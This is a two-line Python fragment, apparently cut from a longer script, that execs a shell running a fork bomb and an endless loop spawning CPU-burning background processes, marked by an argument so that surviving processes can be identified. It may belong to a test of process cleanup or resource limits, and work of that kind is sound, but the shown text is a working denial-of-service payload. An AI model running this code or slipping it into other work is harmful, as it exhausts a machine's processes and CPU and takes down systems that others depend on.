# It marks itself by its argument, so that survivors can be told.
os.execv("/bin/sh", ["/bin/sh", "-c", "bomb() { bomb | bomb & }; bomb; while true; do (while true; do :; done) & sleep 0.01; done", PLACES["marker"]])
